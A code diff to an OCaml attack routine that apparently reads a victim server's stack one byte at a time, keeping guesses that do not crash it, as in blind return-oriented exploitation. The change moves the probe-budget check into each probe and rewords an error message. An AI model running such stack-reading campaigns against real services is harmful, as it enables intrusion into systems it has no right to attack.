@@ -15,17 +15,21 @@ exception Give_up of string
 let campaign ~probe_budget (v : Victim.t) =
   let probes = ref 0 and stalls = ref 0 and churn = ref 0 in
   let give_up note = raise (Give_up note) in
+  let budget () = if !probes >= probe_budget then give_up "probe budget exhausted" in
+  (* Every probe is charged to the budget here, so no test under way —
+     a revalidation, a stop-gadget pair — can run past it. *)
   let probe payload =
+    budget ();
     incr probes;
     let r = v.probe payload in
     if r <> Victim.Refused then stalls := 0
     else begin
       incr stalls;
-      if !stalls >= stall_limit then give_up "fleet down, nothing to probe"
+      if !stalls >= stall_limit then
+        give_up (Printf.sprintf "%d probes in a row refused: nothing to probe" stall_limit)
     end;
     r
   in
-  let budget () = if !probes >= probe_budget then give_up "probe budget exhausted" in
   let filler = Buffer.create 128 in
   (* Likely bytes first (zero padding, canonical high bytes), then all. *)
   let guesses = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] @ List.init 256 Fun.id in
@@ -51,7 +55,6 @@ let campaign ~probe_budget (v : Victim.t) =
            nothing stable left to learn. *)
         give_up "stack reading wedged: no survivable byte"
     | g :: tl -> (
-        budget ();
         match probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
         | Victim.Served _ -> Buffer.add_char filler (Char.chr g)
         | Victim.Died _ -> learn_byte tl
